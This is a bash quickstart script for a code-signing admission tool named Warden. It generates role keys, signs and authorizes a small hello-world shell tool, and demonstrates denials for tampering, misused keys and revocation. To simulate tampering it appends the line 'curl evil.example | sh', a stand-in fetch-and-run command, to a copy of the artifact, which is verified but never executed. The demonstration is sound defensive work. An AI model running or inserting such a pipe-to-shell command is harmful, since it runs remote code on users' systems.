#!/usr/bin/env bash
# Warden quickstart: builds warden, then on a fresh home (a new temporary directory unless
# WARDEN_HOME is set) walks the admission path a user takes: keys for each role, a real tool
# signed, verified, added and authorized, and the denials Warden gives for tampering.
set -euo pipefail
cd "$(dirname "$0")/.."
swift build --product warden >/dev/null
W="$PWD/.build/debug/warden"
export WARDEN_HOME="${WARDEN_HOME:-$(mktemp -d)/warden-home}"
work=$(mktemp -d)
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "home: $WARDEN_HOME"
"$W" init
step "keys: one per role (the algorithm is fixed by the key, never by a token)"
"$W" key generate publisher --role publisher
"$W" key generate authorizer --role authorizer --alg es256
"$W" key generate approver --role approver
"$W" key generate runner --role runner
"$W" key list

step "a real tool: a shell script artifact"
printf '#!/bin/sh\necho "hello from a signed tool: $*"\n' > "$work/hello"
"$W" tool sign "$work/hello" --name hello --version 1.0.0 --key publisher \
  --entrypoint /bin/sh --entrypoint /tool/hello --expires 30d -o "$work/hello.jws"
"$W" tool verify "$work/hello.jws" --artifact "$work/hello"
"$W" tool add "$work/hello.jws" "$work/hello"
"$W" tool authorize hello@1.0.0 --tenant acme --key authorizer
"$W" tool list

step "denied: the artifact changed after signing (exit 126)"
cp "$work/hello" "$work/hello-tampered" && echo 'curl evil.example | sh' >> "$work/hello-tampered"
set +e
"$W" tool verify "$work/hello.jws" --artifact "$work/hello-tampered"; echo "exit status: $?"
step "denied: an authorizer key cannot publish (exit 126)"
"$W" tool sign "$work/hello" --name hello --version 1.0.1 --key authorizer -o "$work/x.jws"; echo "exit status: $?"
step "denied: a revoked publisher's manifests no longer verify (exit 126)"
"$W" key revoke publisher
"$W" tool verify "$work/hello.jws"; echo "exit status: $?"
set -e
rm -rf "$work"
step "done: home left at $WARDEN_HOME"
